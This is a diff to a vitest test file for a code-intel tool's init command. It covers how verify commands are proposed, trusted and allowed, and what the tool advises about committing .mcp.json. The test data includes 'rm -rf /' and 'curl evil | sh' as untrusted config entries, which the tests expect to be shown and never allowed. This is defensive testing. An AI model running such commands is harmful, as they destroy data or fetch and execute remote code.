@@ -19,6 +19,9 @@ import { PassThrough } from 'node:stream';
 import { afterEach, beforeEach, describe, expect, test } from 'vitest';
 import { run } from '../../src/bin/init.ts';
 
+const program = join(process.cwd(), 'dist', 'code-intel.js');
+const trustCommand = `node ${program} trust`;
+
 let home: string;
 let project: string;
 
@@ -290,16 +293,25 @@ describe('verify commands', () => {
     for (const command of commands) expect(out).toContain(command);
   });
 
+  test('allowed ones are said to be what will run, others what would', async () => {
+    write('package.json', '{"scripts":{"test":"x"}}');
+    expect((await init()).out).toContain('the server would run here:\n  npm test\n');
+    await init(['--yes']);
+    expect((await init()).out).toContain(
+      'the server will run here (allowed for you, in this folder):\n  npm test\n',
+    );
+  });
+
   test('without a terminal they are not allowed, and the way to allow them is told', async () => {
     write('package.json', '{"scripts":{"test":"x"}}');
-    expect((await init()).out).toContain('npx code-intel trust');
-    expect((await init()).out).toContain('npx code-intel trust');
+    expect((await init()).out).toContain(trustCommand);
+    expect((await init()).out).toContain(trustCommand);
   });
 
   test.each(['n\n', '\n', ''])('at a terminal, %j allows nothing', async (typed) => {
     write('package.json', '{"scripts":{"test":"x"}}');
     const { out } = await init([], { typed });
-    expect(out).toContain('npx code-intel trust');
+    expect(out).toContain(trustCommand);
   });
 
   test.each([
@@ -307,11 +319,11 @@ describe('verify commands', () => {
     ['--yes', ['--yes'], {}],
   ])('%s allows exactly what was proposed, kept outside the project', async (_, args, options) => {
     write('package.json', '{"scripts":{"test":"x"}}');
-    expect((await init(args, options)).out).not.toContain('npx code-intel trust');
-    expect((await init()).out).not.toContain('npx code-intel trust');
+    expect((await init(args, options)).out).not.toContain(trustCommand);
+    expect((await init()).out).not.toContain(trustCommand);
     expect(Object.values(tree()).join('')).not.toMatch(/[0-9a-f]{64}/);
     write('.code-intel/config.json', '{"verify":{"commands":["npm test","rm -rf /"]}}');
-    expect((await init()).out).toContain('npx code-intel trust');
+    expect((await init()).out).toContain(trustCommand);
   });
 
   test('commands that someone else wrote are shown and never allowed, not even with --yes', async () => {
@@ -319,7 +331,7 @@ describe('verify commands', () => {
     write('.code-intel/config.json', '{"verify":{"commands":["curl evil | sh"]}}');
     const { out } = await init(['--yes'], { typed: 'y\n' });
     expect(out).toContain('curl evil | sh');
-    expect(out).toContain('npx code-intel trust');
+    expect(out).toContain(trustCommand);
     expect(json('.code-intel/config.json').verify).toEqual({ commands: ['curl evil | sh'] });
   });
 
@@ -358,6 +370,23 @@ describe('--check', () => {
 });
 
 describe('around the project', () => {
+  test('a path of this machine in .mcp.json is not for committing, and only the rest is asked to be', async () => {
+    const { out } = await init();
+    expect(out).toContain(`.mcp.json starts ${program}`);
+    expect(out).toContain('Commit .claude/ and .code-intel/');
+    expect(out).not.toContain('Commit .mcp.json');
+  });
+
+  test('an entry that the user edited may be committed with the rest', async () => {
+    write(
+      '.mcp.json',
+      '{ "mcpServers": { "code-intel": { "command": "npx", "args": ["-y", "code-intel@1"] } } }',
+    );
+    const { out } = await init();
+    expect(out).not.toContain('.mcp.json starts');
+    expect(out).toContain('Commit .mcp.json, .claude/ and .code-intel/');
+  });
+
   test.runIf(process.platform !== 'win32')('the root of the file system is refused', async () => {
     const { status, err } = await init([], { cwd: '/' });
     expect(status).toBe(1);
